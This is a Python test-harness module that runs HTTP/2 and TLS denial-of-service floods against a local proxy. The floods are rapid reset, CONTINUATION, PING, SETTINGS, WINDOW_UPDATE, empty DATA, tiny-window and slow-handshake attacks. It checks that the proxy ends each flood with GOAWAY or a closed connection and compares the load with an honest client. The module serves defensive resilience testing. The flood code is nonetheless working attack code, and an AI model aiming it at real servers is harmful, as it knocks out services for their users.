"""What clients can do to keep a worker busy to no purpose, over HTTP/2 and in handshakes, and what an honest client would do
in their place.

Each attacker is a connection in a thread, which is made anew when it was ended. What it sends was put together before, so
that the attackers' own work is little more than that of their sockets.
"""

import contextlib
import itertools
import json
import pathlib
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

from harness.http2 import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    frame, headers_frame, literal)

ROWS = []
OPENING = PREFACE + frame(SETTINGS)
# Streams of one connection that floods begin, before it is made anew.
STREAMS = 2000


def flood(name, answered, connections=8):
    """Registers an attack: `answered` says whether the proxy must end its connections, and by what."""

    def add(function):
        ROWS.append(Row(name, function, answered, connections))
        return function

    return add


class Row:
    def __init__(self, name, run, answered, connections):
        self.name, self.run, self.answered, self.connections = name, run, answered, connections


def request(path="/hello", method="GET"):
    return [(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path)]


def window(stream, size):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack("!I", size))


class Attacker:
    """One connection after the other, until all is over."""

    def __init__(self, crowd, row):
        self.crowd = crowd
        self.row = row
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.crowd.over.is_set():
            try:
                with socket.create_connection(("127.0.0.1", self.crowd.ports[0]), 5) as sock:
                    sock.settimeout(5)
                    self.crowd.count("connections")
                    self.row.run(self, sock)
            except (OSError, ssl.SSLError):
                self.crowd.count("errors")
            if not self.crowd.over.is_set():
                # Whoever is turned away comes back, but not in the same moment.
                time.sleep(0.002)

    def going_on(self):
        return not self.crowd.over.is_set()

    def repeat(self, sock, opening, piece, cost):
        """Sends a piece of `cost` frames again and again until the proxy ends the connection."""
        self.send(sock, opening, itertools.repeat(piece), cost)

    def send(self, sock, opening, pieces, cost):
        """Sends pieces until the proxy ends the connection, and reads what it says."""
        ended = threading.Event()
        reader = threading.Thread(target=self.read, args=(sock, ended), daemon=True)
        reader.start()
        with contextlib.suppress(OSError):
            sock.sendall(opening)
            for piece in pieces:
                if ended.is_set() or not self.going_on():
                    break
                sock.sendall(piece)
                self.crowd.count("frames", cost)
                self.crowd.pause()
        if self.going_on():
            ended.wait(5)
        with contextlib.suppress(OSError):
            sock.shutdown(socket.SHUT_RDWR)
        reader.join(5)

    def read(self, sock, ended):
        """Reads frames; counts the GOAWAY that ends a flood, and the connection's end."""
        data = b""
        with contextlib.suppress(OSError):
            while piece := sock.recv(1 << 16):
                data += piece
                while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
                    size = 9 + int.from_bytes(data[:3], "big")
                    if data[3] == GOAWAY and data[13:17] != bytes(4):
                        self.crowd.count("goaways")
                    data = data[size:]
        if self.going_on():
            self.crowd.count("ended")
        ended.set()


def resets():
    """HEADERS and RST_STREAM of one stream after the other, a hundred streams in a piece."""
    head = headers_frame(1, request())[9:]
    return [
        b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, head) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            for stream in range(start, start + 200, 2))
        for start in range(1, 2 * STREAMS, 200)]


RESETS = resets()


@flood("rapid reset", "goaway")
def rapid_reset(attacker, sock):
    attacker.send(sock, OPENING, RESETS, 200)


@flood("CONTINUATION", "goaway")
def continuation(attacker, sock):
    block = b"".join(literal(*field) for field in request())
    attacker.repeat(
        sock, OPENING + frame(HEADERS, END_STREAM, 1, block), frame(CONTINUATION, 0, 1, literal("x", "y")) * 100, 100)


@flood("PING", "goaway")
def ping(attacker, sock):
    attacker.repeat(sock, OPENING, frame(PING, payload=b"whatever") * 100, 100)


@flood("SETTINGS", "goaway")
def settings(attacker, sock):
    attacker.repeat(sock, OPENING, frame(SETTINGS, payload=struct.pack("!HI", 4, 65535)) * 100, 100)


@flood("WINDOW_UPDATE", "goaway")
def window_update(attacker, sock):
    attacker.repeat(sock, OPENING + headers_frame(1, request("/slow?ms=10000")), window(1, 1) * 100, 100)


@flood("empty DATA", "goaway")
def empty_data(attacker, sock):
    attacker.repeat(
        sock, OPENING + headers_frame(1, request("/echo", "POST"), end=False), frame(DATA, 0, 1) * 100, 100)


@flood("tiny windows", "goaway")
def tiny_windows(attacker, sock):
    """A hundred large answers, a byte of each at a time."""
    streams = range(1, 200, 2)
    opening = PREFACE + frame(SETTINGS, payload=struct.pack("!HI", 4, 1))
    opening += b"".join(headers_frame(stream, request("/bytes?n=1000000")) for stream in streams)
    attacker.repeat(sock, opening, b"".join(window(stream, 1) for stream in streams), 100)


@flood("slow handshakes", "ended", connections=200)
def slow_handshakes(attacker, sock):
    """A ClientHello by single bytes, and then nothing, until the proxy has enough of it."""
    with socket.create_connection(("127.0.0.1", attacker.crowd.ports[1]), 5) as slow:
        slow.settimeout(0.05)
        for byte in attacker.crowd.hello[:-1]:
            if not attacker.going_on():
                return
            with contextlib.suppress(TimeoutError):
                try:
                    slow.sendall(bytes([byte]))
                    attacker.crowd.count("frames")
                    ended = not slow.recv(100)
                except ConnectionError:
                    ended = True
                if ended:
                    return attacker.crowd.count("ended")


@flood("full handshakes", None, connections=2)
def full_handshakes(attacker, sock):
    while attacker.going_on():
        with socket.create_connection(("127.0.0.1", attacker.crowd.ports[1]), 5) as plain:
            with attacker.crowd.context.wrap_socket(plain, server_hostname="localhost"):
                attacker.crowd.count("frames")
        attacker.crowd.pause()


def honest(attacker, sock):
    """What the attackers are compared with: eight requests at a time, whose answers are read."""
    sock.sendall(OPENING + window(0, 1 << 30))
    head, stream = headers_frame(1, request())[9:], 1
    while attacker.going_on() and stream < 1 << 20:
        piece = b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, number, head) for number in range(stream, stream + 16, 2))
        sock.sendall(piece)
        stream += 16
        ends, data = 0, b""
        while ends < 8:
            piece = sock.recv(1 << 16)
            if not piece:
                return
            data += piece
            while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
                ends += data[3] in (DATA, HEADERS) and bool(data[4] & END_STREAM)
                data = data[9 + int.from_bytes(data[:3], "big"):]
        attacker.crowd.count("frames", 8)
        attacker.crowd.pause()


HONEST = Row("honest requests", honest, None, 8)


class Crowd:
    """Attackers of one kind, in a process of their own."""

    def __init__(self, name, ports, rate):
        self.ports = ports
        self.row = next((row for row in [*ROWS, HONEST] if row.name == name))
        self.over = threading.Event()
        self.lock = threading.Lock()
        self.counts = {}
        self.rate = rate
        self.started = time.monotonic()
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        with contextlib.suppress(ssl.SSLWantReadError):
            self.context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
        self.hello = outgoing.read()

    def count(self, what, number=1):
        with self.lock:
            self.counts[what] = self.counts.get(what, 0) + number

    def pause(self):
        """Keeps all together to the rate, in frames a second; without one, they are as fast as they can be."""
        if self.rate:
            ahead = self.counts.get("frames", 0) / self.rate - (time.monotonic() - self.started)
            if ahead > 0:
                self.over.wait(ahead)

    def serve(self):
        attackers = [Attacker(self, self.row) for _ in range(self.row.connections)]
        sys.stdin.readline()
        self.over.set()
        seconds = time.monotonic() - self.started
        print(json.dumps({**self.counts, "seconds": seconds}), flush=True)
        del attackers


@contextlib.contextmanager
def attack(row, ports, rate=0, prefix=()):
    """Has the attackers of a row go on; yields a dictionary that has what came of it once they were stopped."""
    process = subprocess.Popen(
        [*prefix, sys.executable, "-m", "proof.floods", row.name, json.dumps(ports), str(rate)],
        cwd=pathlib.Path(__file__).resolve().parents[1], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    counts = {}
    try:
        yield counts
    finally:
        with contextlib.suppress(OSError):
            process.stdin.write("\n")
            process.stdin.flush()
        line = process.stdout.readline()
        process.kill()
        process.wait()
        if line:
            counts.update(json.loads(line))


if __name__ == "__main__":
    Crowd(sys.argv[1], json.loads(sys.argv[2]), float(sys.argv[3])).serve()
